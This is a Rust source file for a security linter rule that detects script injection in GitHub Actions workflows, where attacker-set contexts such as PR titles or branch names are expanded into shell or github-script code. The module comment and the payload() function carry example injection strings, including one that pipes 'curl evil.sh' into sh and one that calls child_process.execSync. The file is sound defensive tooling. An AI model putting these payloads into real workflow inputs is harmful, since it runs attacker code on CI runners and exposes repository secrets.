//! Attacker-controllable GitHub contexts expanded by `${{ }}` into a script.
//!
//! `${{ }}` is replaced by its value before the shell (or `actions/github-script`'s JavaScript) sees
//! the text, so a pull request titled `"; curl evil.sh | sh; "` becomes code. Only what can flow into
//! the expression's value counts (`contains(github.event.issue.title, 'x')` is a boolean), and only
//! contexts an outsider sets: titles, bodies, comments, branch names, commit messages, label names.
//! `env.X` counts when `X` is set from one of them. Values passed through `env:` and read as
//! `"$X"` are data, and are never flagged.

use crate::pipeline::github::expr::{Expr, Segment, SourceMap, path_text};
use crate::pipeline::github::workflow::{Job, Step, Workflow, env_entry};
use crate::rules::{FileView, RawFinding, documents};

/// Contexts an outsider controls, and who that is. `*` matches any property or index.
const TAINTED: &[(&str, &str)] = &[
    ("github.event.issue.title", "whoever opens the issue"),
    ("github.event.issue.body", "whoever opens the issue"),
    ("github.event.pull_request.title", "whoever opens the pull request"),
    ("github.event.pull_request.body", "whoever opens the pull request"),
    ("github.event.pull_request.head.ref", "whoever opens the pull request (the branch name)"),
    ("github.event.pull_request.head.label", "whoever opens the pull request (the fork's branch label)"),
    ("github.event.pull_request.head.repo.default_branch", "whoever owns the fork"),
    ("github.head_ref", "whoever opens the pull request (the branch name)"),
    ("github.event.comment.body", "whoever writes the comment"),
    ("github.event.review.body", "whoever writes the review"),
    ("github.event.review_comment.body", "whoever writes the review comment"),
    ("github.event.discussion.title", "whoever opens the discussion"),
    ("github.event.discussion.body", "whoever opens the discussion"),
    ("github.event.changes.title.from", "whoever wrote the previous title"),
    ("github.event.changes.body.from", "whoever wrote the previous body"),
    ("github.event.pages.*.page_name", "whoever edits the wiki"),
    ("github.event.commits.*.message", "whoever writes the commit"),
    ("github.event.commits.*.author.email", "whoever writes the commit"),
    ("github.event.commits.*.author.name", "whoever writes the commit"),
    ("github.event.head_commit.message", "whoever writes the commit"),
    ("github.event.head_commit.author.email", "whoever writes the commit"),
    ("github.event.head_commit.author.name", "whoever writes the commit"),
    ("github.event.workflow_run.head_branch", "whoever opened the pull request that ran the first workflow"),
    ("github.event.workflow_run.head_commit.message", "whoever wrote the commit that ran the first workflow"),
    (
        "github.event.workflow_run.head_commit.author.email",
        "whoever wrote the commit that ran the first workflow",
    ),
    (
        "github.event.workflow_run.head_commit.author.name",
        "whoever wrote the commit that ran the first workflow",
    ),
    (
        "github.event.workflow_run.display_title",
        "whoever opened the pull request that ran the first workflow",
    ),
    (
        "github.event.workflow_run.pull_requests.*.head.ref",
        "whoever opened the pull request that ran the first workflow",
    ),
    ("github.event.issue.labels.*.name", "whoever can create labels"),
    ("github.event.pull_request.labels.*.name", "whoever can create labels"),
    ("github.event.label.name", "whoever can create labels"),
];

pub fn check(file: &FileView<'_>) -> Vec<RawFinding> {
    let mut out = Vec::new();
    for doc in documents(file) {
        let wf = Workflow::new(doc);
        for (job, steps) in wf.all_steps() {
            for step in &steps {
                let Some((sink, node)) = sink(step) else { continue };
                let Some(decoded) = node.as_str() else { continue };
                let map = SourceMap::new(decoded, file.text, node.span);
                for (k, occ) in map.occurrences().iter().enumerate() {
                    let Ok(expr) = &occ.parsed else { continue };
                    for c in expr.dataflow_contexts() {
                        let Some(detail) = explain(&wf, job.as_ref(), step, c, sink) else { continue };
                        out.push(RawFinding {
                            span: map.source_span(k, c.span),
                            detail: Some(detail),
                            ..RawFinding::default()
                        });
                    }
                }
            }
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sink {
    Shell,
    GithubScript,
}

/// The step's code: its `run:` script or `actions/github-script`'s `script:` input.
fn sink<'a>(step: &Step<'a>) -> Option<(Sink, &'a crate::model::Node)> {
    if let Some(run) = step.run() {
        return Some((Sink::Shell, run));
    }
    if step.action().as_deref() == Some("actions/github-script") {
        return step.with("script").map(|s| (Sink::GithubScript, s));
    }
    None
}

/// Why context `c` is dangerous in this script, or `None` when it is not.
fn explain(
    wf: &Workflow<'_>,
    job: Option<&Job<'_>>,
    step: &Step<'_>,
    c: &Expr,
    sink: Sink,
) -> Option<String> {
    let path = c.context_path()?;
    let text = path_text(&path);
    let var = env_name(&path);
    if let Some(who) = tainted(&path) {
        return Some(format!(
            "`{text}` is set by {who} and is pasted into the {} before it runs, so a value like `{}` runs as code; {}",
            sink_name(sink),
            payload(sink),
            fix(sink, &var, &format!("${{{{ {text} }}}}")),
        ));
    }
    // `${{ env.X }}` where `X` is set from a tainted context is pasted in just the same.
    let [Segment::Name(head), Segment::Name(name)] = path.as_slice() else { return None };
    if head != "env" {
        return None;
    }
    let entry = env_entry(wf, job, step, name)?;
    let source = tainted_source(entry.value.as_str()?)?;
    let name = &entry.key;
    Some(format!(
        "`env.{name}` holds `{source}`, and `${{{{ env.{name} }}}}` pastes it into the {} before it runs, so a value like `{}` runs as code; {}",
        sink_name(sink),
        payload(sink),
        match sink {
            Sink::Shell => format!("reference the variable instead: `\"${name}\"`"),
            Sink::GithubScript => format!("read it as `process.env.{name}` instead"),
        },
    ))
}

fn sink_name(sink: Sink) -> &'static str {
    match sink {
        Sink::Shell => "shell script",
        Sink::GithubScript => "`actions/github-script` code",
    }
}

fn payload(sink: Sink) -> &'static str {
    match sink {
        Sink::Shell => "\"; curl evil.sh | sh; \"",
        Sink::GithubScript => "\"); require('child_process').execSync('id'); (\"",
    }
}

fn fix(sink: Sink, var: &str, expr: &str) -> String {
    match sink {
        Sink::Shell => format!("pass it through `env:` (`{var}: {expr}`) and use `\"${var}\"` in the script"),
        Sink::GithubScript => {
            format!("pass it through `env:` (`{var}: {expr}`) and read `process.env.{var}` in the script")
        }
    }
}

/// Who controls a context: exact matches, members (`…title.x`) and objects that hold one
/// (`toJSON(github.event.pull_request)`).
fn tainted(path: &[Segment]) -> Option<&'static str> {
    TAINTED.iter().find_map(|(pattern, who)| {
        let pat: Vec<&str> = pattern.split('.').collect();
        let n = pat.len().min(path.len());
        let same = pat.iter().zip(path).take(n).all(|(p, s)| match s {
            Segment::Any => true,
            Segment::Name(name) => *p == "*" || p == name,
        });
        // A shorter path is an object holding the field (`toJSON(github.event)`), rendered whole.
        same.then_some(*who)
    })
}

/// The first tainted context an env value is built from.
fn tainted_source(value: &str) -> Option<String> {
    crate::pipeline::github::expr::find(value).iter().find_map(|occ| {
        let expr = occ.parsed.as_ref().ok()?;
        expr.dataflow_contexts()
            .into_iter()
            .filter_map(Expr::context_path)
            .find(|p| tainted(p).is_some())
            .map(|p| path_text(&p))
    })
}

/// An environment variable name for a context: its last property, upper-cased (`TITLE`, `HEAD_REF`).
fn env_name(path: &[Segment]) -> String {
    let names: Vec<&str> = path
        .iter()
        .filter_map(|s| match s {
            Segment::Name(n) => Some(n.as_str()),
            Segment::Any => None,
        })
        .collect();
    let last = match names.as_slice() {
        ["github", "head_ref"] => "head_ref".to_string(),
        [.., parent, "ref" | "name" | "email" | "label"] => {
            format!("{parent}_{}", names.last().unwrap_or(&""))
        }
        [.., last] => last.to_string(),
        [] => "value".to_string(),
    };
    last.replace('-', "_").to_ascii_uppercase()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::github::expr::parse;

    fn path(s: &str) -> Vec<Segment> {
        parse(s).unwrap().context_path().unwrap()
    }

    #[test]
    fn tainted_contexts() {
        assert!(tainted(&path("github.event.pull_request.title")).is_some());
        assert!(tainted(&path("github.event.commits[0].message")).is_some());
        assert!(tainted(&path("github.event.pull_request")).is_some());
        assert!(tainted(&path("github.event.pull_request.number")).is_none());
        assert!(tainted(&path("github.event.pull_request.head.sha")).is_none());
        assert!(tainted(&path("github.ref_name")).is_none());
        assert!(tainted(&path("inputs.title")).is_none());
    }

    #[test]
    fn env_names() {
        assert_eq!(env_name(&path("github.event.pull_request.title")), "TITLE");
        assert_eq!(env_name(&path("github.head_ref")), "HEAD_REF");
        assert_eq!(env_name(&path("github.event.pull_request.head.ref")), "HEAD_REF");
        assert_eq!(env_name(&path("github.event.head_commit.author.email")), "AUTHOR_EMAIL");
    }
}
